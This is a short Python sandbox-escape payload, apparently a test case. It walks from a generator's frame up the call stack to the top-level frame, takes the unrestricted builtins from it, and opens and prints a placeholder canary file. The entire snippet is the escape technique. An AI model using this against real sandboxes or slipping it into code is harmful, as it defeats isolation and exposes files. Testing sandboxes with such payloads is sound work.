# walks from a running generator to its callers
def f():
    yield g.gi_frame.f_back
g = f()
b = [x for x in g][0]
while b.f_back: b = b.f_back
print(b.f_builtins['open'](CANARY_FILE).read())
